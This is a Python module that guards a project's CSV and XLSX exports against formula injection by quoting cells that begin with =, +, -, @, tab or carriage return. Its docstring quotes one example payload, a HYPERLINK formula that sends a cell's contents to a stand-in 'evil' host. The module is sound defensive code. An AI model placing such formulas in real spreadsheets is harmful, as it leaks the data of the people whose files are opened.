"""Cells that a spreadsheet never runs as a formula (CSV/formula injection).

A participant's answer such as ``=HYPERLINK("http://evil/?"&A1,"Click")`` or ``@SUM(...)``
is data, not a formula, yet Excel and LibreOffice evaluate a CSV cell or an XLSX formula cell
that starts with ``=``, ``+``, ``-`` or ``@`` (and tab or carriage return, which some of them
skip before looking). Every CSV and XLSX the project writes passes its cells through here:

- CSV: ``safe_cell`` prefixes such a string with ``'`` (the OWASP rule); spreadsheets show
  the text and never evaluate it.
- XLSX: ``xlsx_cells`` writes every string as a string cell (``data_type = "s"``, which
  openpyxl would otherwise make a formula for a leading ``=``) and marks the risky ones
  ``quotePrefix`` so that editing the cell in Excel does not turn it into a formula either.
  The value itself stays unchanged (no visible ``'``). Numbers and dates stay numbers and dates.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: Characters that make a spreadsheet treat a cell as a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def is_risky(value: Any) -> bool:
    """Whether ``value`` is a string that a spreadsheet might evaluate."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def safe_cell(value: Any) -> Any:
    """``value`` for a CSV cell: a risky string gets a leading ``'``; anything else is kept.

    Phone numbers such as ``+7 701 …`` get the prefix too: a spreadsheet shows them as text,
    which is what they are.
    """
    return f"'{value}" if is_risky(value) else value


def xlsx_cells(worksheet, values: Iterable[Any]) -> list:
    """Cells for ``worksheet.append`` (normal or write-only workbook) whose strings are text.

    Non-string values (numbers, dates, ``None``) are written as they are.
    """
    from openpyxl.cell import WriteOnlyCell  # heavy: only where a workbook is made

    cells = []
    for value in values:
        cell = WriteOnlyCell(worksheet, value=value)
        if isinstance(value, str):
            cell.data_type = "s"
            if is_risky(value):
                cell.quotePrefix = True
        cells.append(cell)
    return cells
